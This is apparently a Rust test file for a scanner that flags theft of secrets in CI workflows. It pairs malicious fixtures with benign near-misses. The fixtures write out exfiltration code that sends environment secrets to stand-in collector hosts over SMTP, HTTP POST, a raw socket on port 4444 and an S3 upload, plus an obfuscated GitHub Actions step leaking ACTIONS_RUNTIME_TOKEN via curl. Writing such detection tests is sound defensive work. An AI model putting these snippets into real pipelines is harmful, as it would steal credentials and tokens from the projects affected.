        shell: "python",
        script: r##"import os,smtplib
from email.message import EmailMessage
m=EmailMessage()
m["To"]="x@collector.example"
m.set_content("see https://docs.widgets.example/")
m.add_attachment("\n".join(os.environ[n] for n in ("A","B")).encode(),maintype="text",subtype="plain")
with smtplib.SMTP("mx.collector.example",25) as s:
  s.send_message(m)"##,
        later: "",
        secrets: ways::BOTH,
        place: "mx.collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js mail",
        shell: "node {0}",
        script: r##"const t=require('nodemailer').createTransport({host:'mx.collector.example',port:25});
t.sendMail({to:'x@collector.example',text:process.env.A+process.env.B})"##,
        later: "",
        secrets: ways::BOTH,
        place: "mx.collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a token of the runner's under a computed name",
        shell: "bash",
        script: r##"true"##,
        later: "      - uses: actions/github-script@v7\n        with:\n          script: |\n            for (const k of ['RUNTIME_TOKEN']) core.exportVariable('X_' + k.slice(0, 3), process.env['ACTIONS_' + k])\n      - run: curl -d \"$X_RUN\" https://collector.example/in\n",
        secrets: &["ACTIONS_RUNTIME_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a connection written to in its own callback",
        shell: "node {0}",
        script: r##"const s=require('net').connect(4444,[192,0,2,7].join('.'),()=>{ s.write(process.env.A+process.env.B); s.end() })"##,
        later: "",
        secrets: ways::BOTH,
        place: "192.0.2.7",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a client by its import",
        shell: "node {0}",
        script: r##"import { request } from 'undici';
await request('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py a bucket by a key of the file's own",
        shell: "python",
        script: r##"import os,boto3
boto3.client("s3",aws_access_key_id="AKIAPLACEHOLDER00000",aws_secret_access_key="x").put_object(Bucket="drop-of-x",Key="o",Body=os.environ["A"]+os.environ["B"])"##,
        later: "",
        secrets: ways::BOTH,
        place: "drop-of-x.s3.amazonaws.com",
        verdict: Verdict::Malicious,
    },
];

/// What people do with their own secrets in the same words.
const NEAR_MISSES: &[(&str, &str, &str)] = &[
    (
        "py the beginning of it",
        "python",
        r##"import os
print(os.environ['A'][:4])"##,
    ),
    (
        "js fetch under another name",
        "node {0}",
        r##"const go = globalThis['fetch'];
go('https://registry.npmjs.org/-/whoami', {headers: {authorization: `Bearer ${process.env.B}`}});"##,
    ),
    (
        "js the length of an encoded one",
        "node {0}",
        r##"const hex = Buffer.from(process.env.A).toString('hex');
console.log('length ' + hex.length);"##,
    ),
    (
        "py ok own service",
        "python",
        r##"import os,requests
requests.get('https://pypi.org/simple/',headers={'Authorization':'Bearer '+os.environ['A']})"##,
    ),
    (
        "py ok client of a file",
        "python",
        r##"import os
from pathlib import Path
Path('conf.ini').write_text(os.environ['A'])"##,
    ),
    (
        "py ok subprocess",
        "python",
        r##"import os,subprocess
subprocess.run(['twine','upload','dist/*'],env=dict(os.environ,TWINE_PASSWORD=os.environ['A']))"##,
    ),
    (
        "py ok length",
        "python",
        r##"import os
print(len(os.environ['A']))"##,
    ),
    (
        "py ok class",
        "python",
        r##"import os
class Conf:
  def __init__(self,t): self.t=t
  def get(self): return self.t
c=Conf(os.environ['A'])
print('ready')"##,
    ),
    (
        "ok node",
        "bash",
        r##"node -e 'require("fs").writeFileSync(".npmrc","//registry.npmjs.org/:_authToken="+process.env.B)'"##,
    ),
    ("ok node check", "bash", r##"node -e 'if(!process.env.A) process.exit(1)'"##),
    (
        "py settings with a name like a host",
        "python",
        r##"import os
with open("settings.py", "w") as f:
  f.write("KEY=" + os.environ["A"])"##,
    ),
    (
        "py numbers",
        "python",
        r##"import os,requests
for page in range(0, 10, 2):
  requests.get(f"https://api.widgets.example/{page // 2}.{page - 1}")"##,
    ),
    (
        "js own mail",
        "node {0}",
        r##"const t=require('nodemailer').createTransport({host:'smtp.widgets.example',auth:{user:'ci',pass:process.env.SMTP}});
t.sendMail({to:'team@widgets.example',text:'released'})"##,
    ),
];

#[test]
fn thefts_are_found() {
    for way in THEFTS {
        found(way);
    }
}

#[test]
fn ordinary_work_is_not_accused() {
    for (name, shell, script) in NEAR_MISSES {
        at_most_exposed(name, shell, script);
    }
}
